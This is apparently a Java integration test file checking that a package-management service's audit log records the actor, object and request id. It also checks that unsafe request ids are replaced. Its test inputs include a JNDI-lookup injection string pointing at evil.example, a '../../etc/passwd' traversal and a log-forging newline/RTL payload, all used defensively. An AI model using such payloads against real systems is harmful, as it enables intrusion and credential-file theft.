package dev.veranda.observe;

import static dev.veranda.testing.People.ADA;
import static dev.veranda.testing.People.ALICE;
import static dev.veranda.testing.People.BOB;
import static dev.veranda.testing.People.VERA;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.veranda.api.KubeClient;
import dev.veranda.audit.AuditEntry;
import dev.veranda.audit.AuditTrail;
import dev.veranda.failure.Forbidden;
import dev.veranda.repository.NewCredentials;
import dev.veranda.repository.Repositories;
import dev.veranda.repository.Repository;
import dev.veranda.review.Reviews;
import dev.veranda.revision.Drafts;
import dev.veranda.revision.PackageRevisions;
import dev.veranda.revision.model.NewPackage;
import dev.veranda.revision.model.PackageRevision;
import dev.veranda.testing.Repos;
import dev.veranda.testing.TestDatabase;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.QuarkusTestProfile;
import io.quarkus.test.junit.TestProfile;
import jakarta.inject.Inject;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Every line of the log says when, from where, and what it belongs to: which request, by whom, about what. */
@QuarkusTest
@QuarkusTestResource(TestDatabase.class)
@TestProfile(LogLinesTest.AsInProduction.class)
class LogLinesTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String GROUP = "/apis/porch.kpt.dev/v1alpha1/namespaces/default/";
    private static final String MADE = "[0-9a-f]{16}";

    public static final class AsInProduction implements QuarkusTestProfile {
        @Override
        public Map<String, String> getConfigOverrides() {
            try {
                return Map.of(
                        "quarkus.log.file.enabled",
                        "true",
                        "quarkus.log.file.json.enabled",
                        "true",
                        "quarkus.log.file.path",
                        Files.createTempDirectory("veranda-log")
                                .resolve("veranda.log")
                                .toString());
            } catch (IOException failure) {
                throw new UncheckedIOException(failure);
            }
        }
    }

    @TestHTTPResource
    URI root = URI.create("http://127.0.0.1/");

    @ConfigProperty(name = "quarkus.log.file.path")
    Path log;

    @Inject
    Repos repos;

    @Inject
    Repositories repositories;

    @Inject
    Drafts drafts;

    @Inject
    Reviews reviews;

    @Inject
    PackageRevisions revisions;

    @Inject
    AuditTrail audit;

    @Test
    void everyKindOfOperationLeavesALineThatSaysWhatItBelongsTo() throws Exception {
        Repository repository = repos.empty("logged", false);
        PackageRevision draft = drafts.init(ALICE, new NewPackage(repository.name(), "app", "v1"), "", List.of());
        drafts.save(
                ALICE,
                draft.name(),
                draft.commit(),
                revisions.contents(ALICE, draft).with("a.txt", "a"));
        PackageRevision proposal =
                drafts.propose(ALICE, draft.name(), now(draft).commit());
        drafts.withdraw(ALICE, proposal.name(), proposal.commit());
        proposal = drafts.propose(ALICE, draft.name(), now(draft).commit());
        reviews.reject(BOB, proposal.name(), proposal.commit(), "not yet");
        proposal = drafts.propose(ALICE, draft.name(), now(draft).commit());
        PackageRevision published = reviews.approve(BOB, proposal.name(), proposal.commit(), "");
        PackageRevision edited = drafts.edit(ALICE, published.name(), "v2");
        drafts.delete(ALICE, edited.name(), edited.commit());
        drafts.clone(ALICE, published.name(), new NewPackage(repository.name(), "copy", "v1"), Map.of());
        assertThatThrownBy(() -> drafts.init(VERA, new NewPackage(repository.name(), "no", "v1"), "", List.of()))
                .isInstanceOf(Forbidden.class);
        repos.git(repository)
                .run("update-ref", "refs/tags/copy/v7", now(published).commit());
        repos.sync(repository);
        Repository other = repos.empty("logged", false);
        repositories.change(ADA, other.id(), other.version(), other.settings(), new NewCredentials.Unchanged());
        repositories.unregister(ADA, other.id());
        KubeClient ada = new KubeClient(root, "ada");
        String name = repos.freshName("logged");
        ada.send("POST", "/api/v1/namespaces", "{\"metadata\":{\"name\":\"" + name + "\"}}")
                .json();
        ada.send("DELETE", "/api/v1/namespaces/" + name, "").json();

        lineOf("done: create package", "alice", draft.name());
        lineOf("done: save draft", "alice", draft.name());
        lineOf("done: propose", "alice", draft.name());
        lineOf("done: withdraw proposal", "alice", draft.name());
        lineOf("done: reject", "bob", draft.name());
        lineOf("done: approve", "bob", draft.name());
        lineOf("done: create draft", "alice", edited.name());
        lineOf("done: delete draft", "alice", edited.name());
        lineOf("done: clone package", "alice", repository.name() + ".copy.v1");
        lineOf("refused: create package", "vera", repository.name() + ".no.v1");
        lineOf("done: register repository", "ada", repository.name());
        lineOf("done: change repository", "ada", other.name());
        lineOf("done: unregister repository", "ada", other.name());
        lineOf("done: create namespace", "ada", name);
        lineOf("done: delete namespace", "ada", name);
        lineOf("synchronised " + repository.name(), "veranda", repository.name());
        // And whatever else was done: nothing is logged of an operation without saying whose it is.
        assertThat(lines())
                .filteredOn(line -> line.path("loggerName").asText().equals(AuditTrail.class.getName()))
                .hasSizeGreaterThan(15)
                .allSatisfy(line ->
                        assertThat(line.path("mdc").path("request").asText()).isNotEmpty())
                .allSatisfy(line ->
                        assertThat(line.path("mdc").path("actor").asText()).isNotEmpty())
                .noneMatch(line -> line.path("mdc").has("traceId"))
                .allSatisfy(line -> assertThat(line.path("timestamp").asText()).isNotEmpty())
                .allSatisfy(line -> assertThat(line.path("threadName").asText()).isNotEmpty());
    }

    @ParameterizedTest
    @ValueSource(strings = {"a-request-of-mine", "7", "0af7651916cd43dd8448eb211c80319c", "proxy:1/2+3=4@5._-"})
    void theIdThatARequestBringsIsInItsAnswerTheLogAndTheAuditTrail(String kind) throws Exception {
        Repository repository = repos.empty("logged", false);
        PackageRevision draft = drafts.init(ALICE, new NewPackage(repository.name(), "app", "v1"), "", List.of());
        KubeClient alice = new KubeClient(root, "alice");
        String id =
                kind.length() > 20 ? kind : kind + UUID.randomUUID().toString().substring(0, 8);
        String address = GROUP + "packagerevisions/" + draft.name();
        String proposed = alice.get(address).json().toString().replace("\"Draft\"", "\"Proposed\"");

        HttpResponse<String> answer =
                alice.send("PUT", address, proposed, "X-Request-Id", id).response();

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.headers().allValues("X-Request-Id")).containsExactly(id);
        assertThat(lineOf("done: propose", "alice", draft.name())
                        .path("mdc")
                        .path("request")
                        .asText())
                .isEqualTo(id);
        assertThat(audit.of(ADA, draft.name(), 1))
                .singleElement()
                .satisfies(entry -> assertThat(entry.action()).isEqualTo("propose"))
                .extracting(AuditEntry::request)
                .isEqualTo(id);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "two words",
                "\"quoted\"",
                "<b>bold</b>",
                "${jndi:ldap://evil.example/a}",
                "../../etc/passwd",
                "a\tb",
                "-begins-with-a-dash",
                "0123456789012345678901234567890123456789012345678901234567890123x"
            })
    void anIdThatIsNotSaneIsReplaced(String id) throws Exception {
        HttpResponse<String> answer = new KubeClient(root, "alice")
                .get("/version", "X-Request-Id", id)
                .response();

        assertThat(answer.headers().allValues("X-Request-Id"))
                .singleElement()
                .satisfies(made -> assertThat(made).matches(MADE));
    }

    @Test
    void whoSendsTwoIdsOrNoneIsGivenOne() throws Exception {
        KubeClient alice = new KubeClient(root, "alice");

        List<String> two = alice.get("/version", "X-Request-Id", "one", "X-Request-Id", "two")
                .response()
                .headers()
                .allValues("X-Request-Id");
        List<String> none = alice.get("/version").response().headers().allValues("X-Request-Id");

        assertThat(two).singleElement().satisfies(made -> assertThat(made).matches(MADE));
        assertThat(none).singleElement().satisfies(made -> assertThat(made).matches(MADE));
        assertThat(two).isNotEqualTo(none);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/sign-in", "/q/metrics", "/q/health/ready", "/webhooks/none", "/api/v1", "/nothing/here"})
    void whateverAnswersTheAnswerBearsTheId(String path) throws Exception {
        assertThat(new KubeClient(root, "alice")
                        .get(path, "X-Request-Id", "known-by-this")
                        .response()
                        .headers()
                        .allValues("X-Request-Id"))
                .containsExactly("known-by-this");
    }

    @Test
    void aWebhookThatIsRefusedIsLoggedWithItsRequest() throws Exception {
        String id = "hook-" + UUID.randomUUID();
        new KubeClient(root, "nobody").send("POST", "/webhooks/none", "{}", "X-Request-Id", id);

        await().atMost(Duration.ofSeconds(10))
                .untilAsserted(() -> assertThat(lines())
                        .filteredOn(line -> line.path("message").asText().contains("did not show the right secret"))
                        .extracting(line -> line.path("mdc").path("request").asText())
                        .contains(id));
    }

    @Test
    void whatARequestNamesIsShownAndForgesNoLine() throws Exception {
        HttpResponse<String> unused = new KubeClient(root, "alice")
                .send("DELETE", GROUP + "packagerevisions/a%0Adone:%20approve%E2%80%AEb", "")
                .response();

        await().atMost(Duration.ofSeconds(10))
                .untilAsserted(() -> assertThat(lines())
                        .filteredOn(
                                line -> line.path("mdc").path("object").asText().contains("approve"))
                        .isNotEmpty()
                        .allSatisfy(line -> assertThat(
                                        line.path("mdc").path("object").asText())
                                .doesNotContain("\n", "\u202e")
                                .contains("[U+202E]")));
    }

    private PackageRevision now(PackageRevision revision) {
        return revisions.named(ALICE, revision.name());
    }

    /** The last line that begins so and belongs to this. */
    private JsonNode lineOf(String message, String actor, String object) {
        return await().alias(message + " by " + actor + " on " + object)
                .atMost(Duration.ofSeconds(10))
                .until(
                        () -> lines().stream()
                                .filter(line -> line.path("message").asText().startsWith(message))
                                .filter(line ->
                                        line.path("mdc").path("actor").asText().equals(actor))
                                .filter(line ->
                                        line.path("mdc").path("object").asText().equals(object))
                                .filter(line -> !line.path("mdc")
                                        .path("request")
                                        .asText()
                                        .isEmpty())
                                .reduce((one, later) -> later),
                        java.util.Optional::isPresent)
                .orElseThrow();
    }

    private List<JsonNode> lines() {
        try (var lines = Files.lines(log)) {
            return lines.map(LogLinesTest::json).toList();
        } catch (IOException failure) {
            throw new UncheckedIOException(failure);
        }
    }

    private static JsonNode json(String line) {
        try {
            return JSON.readTree(line);
        } catch (IOException notJson) {
            throw new AssertionError(line, notJson);
        }
    }
}
